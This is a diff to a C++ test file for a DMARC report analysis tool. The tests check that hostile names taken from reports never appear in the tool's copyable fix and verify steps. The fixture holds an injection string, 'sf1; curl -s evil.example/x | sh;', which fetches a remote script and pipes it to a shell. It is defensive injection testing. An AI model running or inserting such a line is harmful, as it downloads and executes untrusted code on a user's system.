@@ -5,9 +5,12 @@
 #include <algorithm>
 
 #include "report/analysis/finding/copyable.h"
-#include "report/analysis/finding/finding_texts.h"
 #include "report/analysis/readiness/readiness.h"
 #include "report/answers/next_record.h"
+#include "report/render/phrases/blocker_phrases.h"
+#include "report/render/phrases/finding_phrases.h"
+#include "report/render/phrases/readiness_phrases.h"
+#include "report/render/phrases/record_phrases.h"
 #include "tests/report/analysis/readiness/policy_support.h"
 
 using namespace dmarcq;
@@ -76,22 +79,22 @@ TEST_CASE("copyable: host names, selectors, org ids, values of an entry") {
 
 TEST_CASE("copyable: no step of any finding holds text of a report that is no name") {
   const std::string evil = "sf1; curl -s evil.example/x | sh;";
-  const FindingNames names{.from = evil,
-                           .own = evil,
+  const FindingNames names{.header_from = evil,
+                           .own_domain = evil,
                            .policy_domain = evil,
                            .selector = evil,
                            .signing_domain = evil,
                            .spf_domain = evil,
-                           .org = evil,
+                           .orgs = {{.org_id = evil, .instance = "na63"}},
                            .reporter = evil,
-                           .gateway = evil,
-                           .unsigned_words = evil};
+                           .gateway = evil};
   for (std::size_t code = 0; code < finding_code_count; ++code) {
-    const FindingText& text = text_of(static_cast<FindingCode>(code));
-    CAPTURE(to_text(text.code));
-    CHECK_FALSE(fill(text.cause, names).contains("curl"));
-    CHECK_FALSE(fill(text.verify, names).contains("curl"));
-    for (const FixStep& step : text.fix) CHECK_FALSE(fill(step.text, names).contains("curl"));
+    const auto sentences = sentences_of(static_cast<FindingCode>(code), names);
+    CAPTURE(to_text(static_cast<FindingCode>(code)));
+    const bool lists_orgs = sentences.cause.contains(evil + " (na63");
+    CHECK((lists_orgs || !sentences.cause.contains("curl")));
+    CHECK_FALSE(sentences.verify.contains("curl"));
+    for (const std::string& step : sentences.fix) CHECK_FALSE(step.contains("curl"));
   }
   CHECK(fill("dig +short CNAME {selector}._domainkey.{d}", names) ==
         "dig +short CNAME <selector>._domainkey.the signing domain");
@@ -137,15 +140,17 @@ TEST_CASE(
     const Readiness readiness = assess(w.timeline, lookup, owner, question, streams);
     CHECK_FALSE(readiness.blockers.empty());
     for (const Blocker& blocker : readiness.blockers) {
-      CHECK_FALSE(blocker.verify.contains("curl"));
-      for (const std::string& step : blocker.fix) CHECK_MESSAGE(!step.contains("curl"), step);
+      const BlockerPhrases phrases = phrases_of(blocker);
+      CHECK_FALSE(phrases.verify.contains("curl"));
+      for (const std::string& step : phrases.fix) CHECK_MESSAGE(!step.contains("curl"), step);
     }
-    for (const std::string& note : readiness.notes) CHECK_FALSE(note.contains("curl"));
+    for (const ReadinessNote& note : readiness.notes)
+      CHECK_FALSE(sentence_of(note).contains("curl"));
     REQUIRE(readiness.current);
     CHECK(readiness.current->text() == "p=none");
     const NextStep next =
         next_step_of(readiness, record_as_seen(*readiness.current), owner, question.limits);
     CHECK_FALSE(next.record.contains("curl"));
-    CHECK_FALSE(next.change.contains("curl"));
+    CHECK_FALSE(phrases_of(next).change.contains("curl"));
   }
 }
